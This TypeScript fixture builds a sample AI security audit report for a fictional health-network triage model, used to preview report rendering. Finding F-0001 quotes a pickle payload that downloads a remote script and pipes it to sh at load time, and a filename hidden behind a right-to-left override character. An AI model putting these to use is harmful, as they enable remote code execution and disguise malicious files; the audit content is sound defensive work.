/** A report document with every type of block, so that the preview can be drawn and looked at. */
import type { Inline, ReportDocument } from '#contract/delivery';
import { ago } from './clock.ts';

const plain = (text: string): Inline => ({ text });
const strong = (text: string): Inline => ({ text, style: 'strong' });
const code = (text: string): Inline => ({ text, style: 'code' });
const dim = (text: string): Inline => ({ text, style: 'dim' });

const epsilons = [0, 0.02, 0.05, 0.1, 0.2];
const curve = (slope: number) =>
  epsilons.map((x) => ({ x, y: Math.max(0.04, 0.972 - x * slope), low: Math.max(0, 0.94 - x * slope), high: Math.min(1, 1 - x * slope) }));

export function sampleReport(): ReportDocument {
  return {
    title: 'AI security audit: Triage Assist',
    client: 'Meridian Health Network',
    caseId: '2026-017',
    classification: 'RESTRICTED',
    handling: 'Handle under MHN engagement letter 2026-08, clause 7',
    draft: true,
    generatedAt: ago(1),
    language: 'en',
    sections: [
      {
        id: 'summary',
        title: 'Summary',
        blocks: [
          { type: 'heading', level: 1, text: 'Summary', anchor: 'summary' },
          {
            type: 'paragraph',
            inlines: [
              strong('Material weaknesses. '),
              plain('One model runs a command when it is loaded ('),
              code('posix.system'),
              plain('), and the training bucket is writable by anybody. '),
              dim('58 findings are counted; 131 are proposed and are not.'),
            ],
          },
          {
            type: 'bars',
            caption: 'Counted findings by severity',
            max: 66,
            rows: [
              { label: 'Critical', value: 2, text: '2', tone: 'critical' },
              { label: 'High', value: 6, text: '6', tone: 'high' },
              { label: 'Medium', value: 26, text: '26', tone: 'medium' },
              { label: 'Low', value: 24, text: '24', tone: 'low' },
            ],
          },
          {
            type: 'list',
            items: [
              [plain('Do not load '), code('models/triage-resnet50-v4.pt'), plain('.')],
              [plain('Close the training bucket.')],
              [plain('Agree on a floor for robustness and test it before each release.')],
            ],
          },
        ],
      },
      {
        id: 'findings',
        title: 'Findings',
        blocks: [
          { type: 'heading', level: 1, text: 'Findings' },
          { type: 'heading', level: 2, text: 'F-0001: Pickle calls posix.system when loaded', anchor: 'F-0001' },
          {
            type: 'facts',
            rows: [
              { label: 'Severity', value: 'Critical' },
              { label: 'Place', value: 'models/triage-resnet50-v4.pt!data.pkl @ 0xb0 to 0xed' },
              { label: 'SHA-256', value: 'c81e0b7d44f2a09bc81e0b7d44f2a09bc81e0b7d44f2a09bc81e0b7d44f2a09b' },
              { label: 'Name as it stands', value: 'models/invoice\u202Efdp.pkl' },
            ],
          },
          { type: 'code', text: 'posix.system("wget -qO- http://10.31.4.9/a | sh")' },
          { type: 'heading', level: 3, text: 'What to do' },
          { type: 'paragraph', inlines: [plain('Do not load this file. Ask the supplier for the weights as safetensors.')] },
          {
            type: 'table',
            caption: 'All counted findings',
            head: ['Id', 'Severity', 'Finding', 'Place'],
            widths: [0.1, 0.14, 0.46, 0.3],
            rows: [
              [
                [plain('F-0001')],
                [plain('Critical')],
                [plain('Pickle calls posix.system when loaded')],
                [code('models/triage-resnet50-v4.pt')],
              ],
              [
                [plain('F-0002')],
                [plain('Critical')],
                [plain('Training bucket writable by any AWS principal')],
                [code('aws/s3/mhn-train-prod.json')],
              ],
              [[plain('F-0005')], [plain('High')], [plain('Accuracy 11.8 % under the Square attack')], [plain('run A-001')]],
            ],
          },
        ],
      },
      {
        id: 'assessments',
        title: 'Assessments',
        blocks: [
          { type: 'heading', level: 1, text: 'Assessments' },
          {
            type: 'curve',
            caption: 'Accuracy of triage-resnet50-v4.onnx under noise and attack, 500 rows, 95 % intervals',
            series: [
              { label: 'Noise', points: curve(0.4) },
              { label: 'Square', points: curve(6) },
            ],
            floor: 0.4,
          },
          { type: 'paragraph', inlines: [dim('The Square attack knows no weights; an attacker who has them does better.')] },
        ],
      },
      {
        id: 'limits',
        title: 'What was not examined',
        blocks: [
          { type: 'heading', level: 1, text: 'What was not examined' },
          {
            type: 'list',
            items: [
              [plain('1 file could not be read (input/output error).')],
              [plain('6 files have no reader; they are kept and hashed.')],
            ],
          },
        ],
      },
    ],
  };
}
